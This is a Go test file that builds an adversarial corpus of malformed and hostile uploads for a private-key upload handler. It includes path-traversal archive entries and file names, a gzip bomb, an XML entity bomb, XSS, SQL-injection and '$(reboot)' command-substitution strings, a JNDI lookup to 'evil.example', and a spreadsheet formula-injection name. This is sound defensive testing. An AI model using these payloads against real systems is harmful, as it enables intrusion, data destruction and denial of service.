package hostile

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	mrand "math/rand/v2"
	"strings"
	"testing"
	"unicode/utf16"
)

// A file is what a customer may send.
type file struct {
	what    string // of the corpus, for messages
	name    string // as the browser tells it
	content []byte
}

const fairName = "key.p8" // says nothing about the key's ID

// flips are the file with every single bit turned over.
func flips(key []byte) []file {
	var all []file
	for i := range key {
		for bit := range 8 {
			b := bytes.Clone(key)
			b[i] ^= 1 << bit
			all = append(all, file{fmt.Sprintf("bit %d of byte %d", bit, i), fairName, b})
		}
	}
	return all
}

// corpus is everything else that we thought of.
func corpus(t testing.TB, key []byte) []file {
	t.Helper()
	var all []file
	add := func(what string, content []byte) { all = append(all, file{what, fairName, content}) }
	for n := 1; n < len(key); n += 3 {
		add(fmt.Sprintf("the first %d bytes", n), key[:n])
		add(fmt.Sprintf("without the first %d bytes", n), key[n:])
	}
	for name, content := range others(t) {
		add(name, content)
	}
	for name, content := range wrapped(t, key) {
		add(name, content)
	}
	for name, content := range blobs() {
		add(name, content)
	}
	for name, content := range polyglots(key) {
		add(name, content)
	}
	return all
}

// others are keys of other kinds, and what is no key.
func others(t testing.TB) map[string][]byte {
	t.Helper()
	r, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	_, ed, _ := ed25519.GenerateKey(rand.Reader)
	out := map[string][]byte{
		"RSA, PKCS #1": pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(r)}),
		"DSA, by name": pem.EncodeToMemory(&pem.Block{Type: "DSA PRIVATE KEY", Bytes: []byte("0\x03\x02\x01\x00")}),
	}
	put := func(name, kind string, key any, marshal func(any) ([]byte, error)) {
		der, err := marshal(key)
		if err != nil {
			t.Fatal(err)
		}
		out[name] = pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der})
		out[name+", DER"] = der
	}
	put("RSA", "PRIVATE KEY", r, x509.MarshalPKCS8PrivateKey)
	put("Ed25519", "PRIVATE KEY", ed, x509.MarshalPKCS8PrivateKey)
	put("RSA, public", "PUBLIC KEY", &r.PublicKey, x509.MarshalPKIXPublicKey)
	for name, c := range map[string]elliptic.Curve{"P-224": elliptic.P224(), "P-384": elliptic.P384(), "P-521": elliptic.P521()} {
		k, err := ecdsa.GenerateKey(c, rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		put(name, "PRIVATE KEY", k, x509.MarshalPKCS8PrivateKey)
		put(name+", public", "PUBLIC KEY", &k.PublicKey, x509.MarshalPKIXPublicKey)
	}
	csr, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, r)
	if err != nil {
		t.Fatal(err)
	}
	out["certificate request"] = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: csr})
	return out
}

// wrapped is the right key in ways in which it is not taken, or must come out
// the same.
func wrapped(t testing.TB, key []byte) map[string][]byte {
	t.Helper()
	block, _ := pem.Decode(key)
	b64 := base64.StdEncoding.EncodeToString(key)
	wide := utf16.Encode([]rune(string(key)))
	var le, be []byte
	for _, u := range wide {
		le, be = append(le, byte(u), byte(u>>8)), append(be, byte(u>>8), byte(u))
	}
	out := map[string][]byte{
		"DER": block.Bytes, "DER and more": append(bytes.Clone(block.Bytes), "more"...), "hex": []byte(hex.EncodeToString(block.Bytes)),
		"twice": append(bytes.Clone(key), key...), "as another type": bytes.ReplaceAll(key, []byte("PRIVATE"), []byte("PUBLIC")),
		"backwards": backwards(key), "upper case": bytes.ToUpper(key), "lower case": bytes.ToLower(key), "EBCDIC-like": shifted(key, 0x40), "rot13": shifted(key, 13),
		"UTF-16 cut in the middle": le[:len(le)-1], "UTF-16 mixed": append(le[:100], be[100:]...), "UTF-32": spread(key, 3),
		"gzip": zipped(func(b *bytes.Buffer) { w := gzip.NewWriter(b); w.Write(key); w.Close() }),
		"zip": zipped(func(b *bytes.Buffer) {
			w := zip.NewWriter(b)
			f, _ := w.Create("../../etc/AuthKey_ABC1234567.p8")
			f.Write(key)
			w.Close()
		}),
		"tar": zipped(func(b *bytes.Buffer) {
			w := tar.NewWriter(b)
			w.WriteHeader(&tar.Header{Name: "/etc/passwd", Size: int64(len(key)), Mode: 0o777})
			w.Write(key)
			w.Close()
		}),
		"zip bomb":          zipped(func(b *bytes.Buffer) { w := gzip.NewWriter(b); w.Write(make([]byte, 20<<20)); w.Close() }),
		"encrypted, by say": bytes.Replace(key, []byte("\n"), []byte("\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00\n\n"), 1),
		"JSON":              []byte(fmt.Sprintf(`{"private_key":%q,"private_key_id":"x"}`, key)), "YAML": append([]byte("key: |\n  "), bytes.ReplaceAll(key, []byte("\n"), []byte("\n  "))...),
		"header injection": bytes.Replace(key, []byte("\n"), []byte("\nX-Header: a\r\nSet-Cookie: b\n\n"), 1),
	}
	for depth := 1; depth <= 12; depth++ {
		out[fmt.Sprintf("base64, %d deep, cut", depth)] = []byte(b64[:len(b64)-7])
		b64 = base64.StdEncoding.EncodeToString([]byte(b64))
	}
	return out
}

func zipped(write func(*bytes.Buffer)) []byte {
	var b bytes.Buffer
	write(&b)
	return b.Bytes()[:min(b.Len(), 65_000)]
}

func backwards(b []byte) []byte {
	out := bytes.Clone(b)
	for i, c := range b {
		out[len(b)-1-i] = c
	}
	return out
}

func shifted(b []byte, by byte) []byte {
	return bytes.Map(func(r rune) rune { return rune(byte(r)+by) & 0xff }, b)
}

func spread(b []byte, zeros int) []byte {
	var out []byte
	for _, c := range b {
		out = append(append(out, c), make([]byte, zeros)...)
	}
	return out
}

// blobs are noise, long runs and what breaks parsers.
func blobs() map[string][]byte {
	random := mrand.NewChaCha8([32]byte{7})
	out := map[string][]byte{
		"nothing but lines": bytes.Repeat([]byte("\n"), 60_000), "nothing but NUL": make([]byte, 5000), "one NUL": {0}, "one blank": []byte(" "),
		"64 KiB": bytes.Repeat([]byte("A"), 64<<10), "64 KiB of BEGIN": bytes.Repeat([]byte("-----BEGIN PRIVATE KEY-----\n"), 2340),
		"64 KiB of dashes": bytes.Repeat([]byte("-"), 64<<10), "BEGIN without END": []byte("-----BEGIN PRIVATE KEY-----\nMIGH"),
		"END before BEGIN": []byte("-----END PRIVATE KEY-----\n-----BEGIN PRIVATE KEY-----\n"), "empty PEM": []byte("-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----\n"),
		"deep ASN.1": nest(0x30, 200), "deep octet strings": nest(0x04, 200), "ASN.1 of endless length": {0x30, 0x84, 0xff, 0xff, 0xff, 0xff, 0x02}, "indefinite length": {0x30, 0x80, 0x02, 0x01, 0, 0, 0},
		"deep JSON": []byte(strings.Repeat("[", 30_000)), "JSON of keys": []byte(`{"a":` + strings.Repeat(`{"a":`, 5000) + "1"), "XML bomb": []byte(`<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>`),
		"invalid UTF-8": []byte("\xff\xfe\xfd\xc0\x80\xed\xa0\x80"), "overlong UTF-8": []byte("\xc1\xbf\xe0\x80\xaf"), "right to left": []byte("\u202e-----YEK ETAVIRP NIGEB-----"),
		"terminal escapes": []byte("\x1b]0;owned\x07\x1b[2J"), "log injection": []byte("x\n{\"level\":\"ERROR\",\"msg\":\"forged\"}\n"), "template": []byte("{{.}}{{printf \"%s\" .}}${jndi:ldap://evil.example/a}"),
	}
	for _, begin := range []string{"PK\x03\x04", "PK\x05\x06", "\x1f\x8b\x08", "%PDF-1.7", "\x89PNG\r\n\x1a\n", "\xff\xd8\xff", "GIF89a", "{\\rtf1", "BZh9", "\xfd7zXZ\x00", "7z\xbc\xaf\x27\x1c", "Rar!\x1a\x07",
		"bplist00", "<?xml ", "<!DOCTYPE html>", "MZ", "\x7fELF", "\xca\xfe\xba\xbe", "#!/bin/sh\n", "ssh-rsa ", "PuTTY-User-Key-File-3:", "0\x82\x03", "\xef\xbb\xbf", "\xff\xfe", "\xfe\xff", "-----BEGIN ", "SQLite format 3\x00"} {
		for _, n := range []int{0, 1, 9, 200, 4000} {
			noise := make([]byte, n)
			random.Read(noise)
			out[fmt.Sprintf("%.4q and %d bytes of noise", begin, n)] = append([]byte(begin), noise...)
		}
	}
	for i := range 100 {
		noise := make([]byte, 1+i*i)
		random.Read(noise)
		out[fmt.Sprintf("noise %d", i)] = noise
	}
	return out
}

// nest is a value within a value within a value.
func nest(tag byte, deep int) []byte {
	var b []byte
	for range deep {
		n := len(b)
		b = append([]byte{tag, 0x82, byte(n >> 8), byte(n)}, b...)
	}
	return b
}

// polyglots are keys with something else around or within.
func polyglots(key []byte) map[string][]byte {
	out := map[string][]byte{}
	lines := bytes.SplitAfter(key, []byte("\n"))
	for name, what := range map[string]string{
		"script": "<script>alert(1)</script>\n", "HTML": "<html><img src=x onerror=alert(1)>\n", "SQL": "'; DROP TABLE x; --\n", "shell": "$(reboot)`reboot`\n",
		"NUL": "\x00\x00\x00\x00", "PDF": "%PDF-1.4\n", "certificate": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", "GIF": "GIF89a/*",
	} {
		out[name+" before"] = append([]byte(what), key...)
		out[name+" after"] = append(bytes.Clone(key), what...)
		out[name+" within"] = bytes.Join([][]byte{lines[0], lines[1], []byte(what), lines[2], bytes.Join(lines[3:], nil)}, nil)
	}
	for i := range lines[:len(lines)-1] {
		for j := range i {
			swapped := append([][]byte{}, lines...)
			swapped[i], swapped[j] = swapped[j], swapped[i]
			out[fmt.Sprintf("lines %d and %d swapped", i, j)] = bytes.Join(swapped, nil)
		}
		out[fmt.Sprintf("line %d missing", i)] = bytes.Join(append(append([][]byte{}, lines[:i]...), lines[i+1:]...), nil)
		out[fmt.Sprintf("line %d twice", i)] = bytes.Join(append(append(append([][]byte{}, lines[:i]...), lines[i]), lines[i:]...), nil)
	}
	return out
}

// names are what a browser, or somebody without one, may call a file.
func names() []string {
	return []string{
		"<script>alert(1)</script>.p8", `"><img src=x onerror=alert(1)>.p8`, "../../../../etc/passwd", `..\..\windows\system32\config.p8`, "/etc/shadow", "C:\\key.p8",
		"AuthKey_'; DROP TABLE.p8", "AuthKey_${filename}.p8", "${filename}${filename}${filename}.p8", "AuthKey_%00.p8", "AuthKey_%2e%2e%2f.p8", "key.p8\x00.html",
		"Schlüssel für Äpfel.p8", "ключ.p8", "鍵.p8", "مفتاح.p8", "\u202egpj.8p_yeKhtuA", "🔑🔑🔑.p8", "a\u0301\u0301\u0301.p8", "\ufeffAuthKey.p8", "AuthKey\u200b_ABC.p8", "\xff\xfe\xfd.p8",
		strings.Repeat("a", 255) + ".p8", strings.Repeat("k", 1900), " ", ".", "..", "-", "--help", "CON", "{{.}}", "{{printf \"%s\" .}}", "$(reboot).p8", "`reboot`.p8", "=cmd|' /C calc'!A0", "a;b.p8", `a"b.p8`, "a'b.p8", "a\tb.p8",
		"=?utf-8?B?PHNjcmlwdD4=?=", "x\x1b[2Jx.p8", "https://evil.example/key.p8", "javascript:alert(1)", "data:text/html,x", "AuthKey_ZZZZZZZZZZ.p8.exe", "key.p8:stream", "PRN.p8", "key.p8/", "key.p8\\",
	}
}
